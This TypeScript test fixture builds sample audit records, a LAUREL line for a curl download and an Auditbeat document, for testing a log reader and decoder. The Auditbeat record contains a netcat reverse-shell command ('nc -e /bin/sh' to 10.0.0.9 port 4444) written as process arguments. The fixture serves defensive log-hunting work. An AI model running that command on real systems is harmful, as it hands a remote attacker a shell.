/**
 * Shipper documents for one audited process start (curl, then nc), written from the field layouts
 * LAUREL and Auditbeat document: the reader tests (`hunt`) and serve's decoder tests take the same
 * documents, each adding what its own assertions need.
 */

/** A LAUREL line for `curl -o '/tmp/a b'` run as root from /root (ARGV percent-encoded as LAUREL writes it). */
export function laurelCurl() {
  return {
    ID: '1709287200.250:4711',
    SYSCALL: {
      arch: '0xc000003e',
      syscall: 59,
      success: 'yes',
      exit: 0,
      ppid: 1500,
      pid: 1501,
      auid: 1000,
      uid: 0,
      euid: 0,
      ses: 7,
      comm: 'curl',
      exe: '/usr/bin/curl',
      ARCH: 'x86_64',
      SYSCALL: 'execve',
    } as Record<string, unknown>,
    EXECVE: { argc: 3, ARGV: ['curl', '-o', '/tmp/a%20b'] },
    CWD: { cwd: '/root' },
    PATH: [{ item: 0, name: '/usr/bin/curl', nametype: 'NORMAL' }] as Record<string, unknown>[],
  };
}

/** An Auditbeat document (auditd module, records joined) for `nc -e /bin/sh 10.0.0.9 4444` on host app1. */
export function auditbeatNc() {
  return {
    '@timestamp': '2024-03-01T10:00:00.250Z',
    host: { name: 'app1' },
    event: { module: 'auditd', action: 'executed', category: ['process'] },
    auditd: {
      message_type: 'syscall',
      sequence: 901,
      result: 'success',
      session: '7',
      data: { syscall: 'execve', arch: 'x86_64', a0: '55d0', tty: 'pts0' },
      paths: [{ name: '/usr/bin/nc', nametype: 'NORMAL', item: '0' }],
    },
    process: { pid: 77, parent: { pid: 70 }, executable: '/usr/bin/nc', name: 'nc', args: ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'], working_directory: '/tmp' },
    user: { id: '0', audit: { id: '1000' } },
  };
}
